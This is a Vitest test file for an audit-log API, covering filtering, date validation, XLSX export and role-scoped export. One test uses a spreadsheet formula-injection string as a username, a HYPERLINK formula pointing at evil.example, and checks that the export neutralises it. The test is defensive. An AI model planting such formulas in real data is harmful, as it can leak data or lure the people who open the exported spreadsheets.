import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type Session, type TestApp } from '../../test/app.js';

let ta: TestApp;
beforeAll(async () => {
  ta = await createTestApp();
});
afterAll(() => ta.close());

async function exportRows(s: Session, body: object): Promise<string[][]> {
  const id = (await ta.call(s, 'POST', '/api/audit/export', body)).json().id;
  await ta.call(s, 'GET', `/api/jobs/${id}/events`);
  const job = (await ta.call(s, 'GET', `/api/jobs/${id}`)).json();
  expect(job.state, job.error).toBe('succeeded');
  const file = await ta.call(s, 'GET', `/api/jobs/${id}/file`);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
  const rows: string[][] = [];
  wb.getWorksheet('审计日志')!.eachRow((row) =>
    rows.push((row.values as unknown[]).slice(1).map((v) => String(v ?? ''))),
  );
  return rows;
}

describe('audit page API', () => {
  it('filters by user, action and time, newest first', async () => {
    const u = await ta.createUser('viewer');
    for (let i = 0; i < 3; i++) await ta.login(u.username, 'Wrong-Password-0');
    const auditor = await ta.signIn(await ta.createUser('auditAdmin'));
    const res = (await ta.call(auditor, 'GET', `/api/audit?username=${u.username}&action=auth.login.failed`)).json();
    expect(res.total).toBe(3);
    expect(res.items.map((r: { seq: string }) => Number(r.seq))).toEqual(
      [...res.items.map((r: { seq: string }) => Number(r.seq))].sort((a, b) => b - a),
    );
    const future = (
      await ta.call(auditor, 'GET', `/api/audit?from=${encodeURIComponent('2999-01-01T00:00:00+08:00')}`)
    ).json();
    expect(future.total).toBe(0);
    const bad = await ta.call(auditor, 'GET', '/api/audit?from=yesterday');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toMatch(/from.*起始时间格式不正确/);
  });

  it('exports to XLSX with formula-like text neutralised', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x","点我")';
    await ta.login(evil, 'Wrong-Password-0');
    const auditor = await ta.signIn(await ta.createUser('auditAdmin'));
    const rows = await exportRows(auditor, { action: 'auth.login.failed' });
    expect(rows[0]).toContain('操作');
    const usernames = rows.slice(1).map((r) => r[2]);
    expect(usernames).toContain(`'${evil}`);
    expect(usernames).not.toContain(evil);
    const audited = await ta.t.pool.query(`select count(*)::int n from audit_log where action = 'export.download'`);
    expect(audited.rows[0].n).toBeGreaterThan(0);
  });

  it('a security administrator’s export holds only the system administrator’s rows', async () => {
    const sys = await ta.signIn(await ta.createUser('sysAdmin'));
    await ta.call(sys, 'POST', '/api/users', { username: 'exported', displayName: '导出' });
    const sec = await ta.signIn(await ta.createUser('secAdmin'));
    const rows = await exportRows(sec, {});
    expect(rows.length).toBeGreaterThan(1);
    expect(rows.slice(1).every((r) => r[3] === 'sysAdmin')).toBe(true);
  });
});
